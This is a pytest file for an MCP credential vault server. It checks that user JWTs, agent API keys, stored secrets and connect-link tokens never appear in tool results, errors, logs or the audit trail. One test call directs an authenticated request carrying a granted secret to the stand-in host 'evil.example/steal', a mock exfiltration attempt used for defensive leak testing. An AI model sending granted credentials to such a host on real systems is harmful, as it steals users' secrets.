"""No credential ever reaches a tool result, an error, a log line or the audit log.

The search uses the real values in play: the user's JWT, an agent API key, a managed secret and
the connect link's single-use token (which only the user should see when elicitation works).
"""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest
from fastmcp import Client
from fastmcp.client.transports import StreamableHttpTransport

from alter_mcp.vault import AlterVault
from tests.peers.mockidp import MockIdpPeer
from tests.server.conftest import (
    PROVIDER,
    answering,
    audience,
    audit_text,
    era_client,
    http_server,
    secret_grant,
    user,
)

SECRET = "sk-ant-leaktest-0123456789abcdefZZ"


@pytest.fixture
def debug_logs() -> Iterator[None]:
    """Turn every relevant logger up to DEBUG for the test (restored afterwards)."""
    names = ["", "fastmcp", "mcp", "alter_mcp", "uvicorn", "httpx2", "starlette"]
    saved = {n: logging.getLogger(n).level for n in names}
    for name in names:
        logging.getLogger(name).setLevel(logging.DEBUG)
    yield
    for name, level in saved.items():
        logging.getLogger(name).setLevel(level)


def _dump(result: Any) -> str:
    return json.dumps({"content": [getattr(c, "text", repr(c)) for c in result.content],
                       "structured": result.structured_content,
                       "is_error": result.is_error}, default=repr)


@pytest.mark.parametrize("era", ["legacy", "modern"])
async def test_leak_no_token_key_or_secret_in_any_output_or_log(
    http_vault: AlterVault, mockidp: MockIdpPeer, era: str, debug_logs: None,
    capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture,
) -> None:
    """Every tool, resource and error over HTTP is free of the JWT, the agent key, the secret."""
    caplog.set_level(logging.DEBUG)
    jwt = mockidp.token(sub="alice", aud=audience(http_vault), email="alice@example.test")
    _, agent_key = await http_vault.create_api_key("leak-agent")
    grant_id = await secret_grant(http_vault, user(mockidp.issuer, "alice"), value=SECRET,
                                  label="alice")
    outputs: list[str] = []
    links: list[str] = []
    human = answering("decline")
    async with http_server(http_vault) as url:
        async with era_client(StreamableHttpTransport(url + "/mcp", auth=jwt), era,
                              elicitation_handler=human) as client:
            calls: list[tuple[str, dict[str, Any]]] = [
                ("list_grants", {}), ("list_grants", {"provider": "nope"}),
                ("connect", {"providers": [PROVIDER], "wait_seconds": 0}),
                ("connect_status", {"session_id": "0" * 32}),
                ("revoke_grant", {"grant_id": grant_id}),
                ("revoke_grant", {"grant_id": "missing"}),
                ("authenticated_request", {"method": "GET", "grant_id": grant_id,
                                           "url": "https://api.anthropic.com/v1/models"}),
                ("authenticated_request", {"method": "GET", "grant_id": grant_id,
                                           "url": "https://evil.example/steal"}),
            ]
            for name, args in calls:
                result = await client.call_tool(name, args, raise_on_error=False)
                outputs.append(_dump(result))
                if name == "connect" and result.structured_content:
                    links.append(result.structured_content.get("connect_url", ""))
            for uri in ("providers://catalog", f"providers://{PROVIDER}"):
                outputs.append(str(await client.read_resource(uri)))
        async with Client(StreamableHttpTransport(url + "/mcp", headers={
                "X-Alter-Agent-Key": agent_key.reveal()})) as client:
            outputs.append(_dump(await client.call_tool("list_grants", {})))
    captured = capfd.readouterr()
    haystacks = {"tool outputs": "\n".join(outputs), "stdout": captured.out,
                 "stderr": captured.err, "logs": caplog.text,
                 "audit": await audit_text(http_vault)}
    needles = {"jwt": jwt, "agent key": agent_key.reveal(), "secret": SECRET}
    for where, text in haystacks.items():
        for what, value in needles.items():
            assert value not in text, f"the {what} leaked into {where}"
    # The connect link (its single-use token) is for the user: when it had to go into a tool
    # result it is in DEBUG transport dumps, but never in the audit or an INFO+ log line.
    info_up = "\n".join(r.getMessage() for r in caplog.records if r.levelno >= logging.INFO)
    for link in filter(None, links):
        token = link.rsplit("/", 1)[1]
        assert token not in haystacks["audit"] and token not in info_up


async def test_leak_auth_failures_do_not_echo_credentials(
    http_vault: AlterVault, mockidp: MockIdpPeer, debug_logs: None,
    capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture,
) -> None:
    """Refused credentials appear in neither the 401 responses nor the logs."""
    from tests.server.test_http_auth import post_init

    caplog.set_level(logging.DEBUG)
    wrong_aud = mockidp.token(sub="alice", aud="http://127.0.0.1:1/mcp")
    fake_key = "amk_" + "Q" * 43
    async with http_server(http_vault) as url:
        responses = [await post_init(url, {"authorization": f"Bearer {value}"})
                     for value in (wrong_aud, fake_key)]
    captured = capfd.readouterr()
    everything = "".join(r.text + str(r.headers) for r in responses)
    everything += captured.out + captured.err + caplog.text
    assert all(r.status_code == 401 for r in responses)
    assert wrong_aud not in everything and fake_key not in everything
